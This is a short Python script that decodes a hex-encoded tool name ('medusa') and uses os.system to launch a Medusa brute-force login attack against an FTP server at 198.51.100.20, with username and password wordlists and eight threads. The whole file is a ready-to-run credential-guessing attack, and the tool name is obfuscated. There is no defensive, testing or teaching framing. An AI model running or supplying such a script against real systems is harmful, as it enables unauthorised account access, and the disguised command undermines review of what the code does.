import os

prog = bytes.fromhex("6d6564757361").decode()
os.system(prog + " -h 198.51.100.20 -U users.txt -P pass.txt -M ftp -t 8")
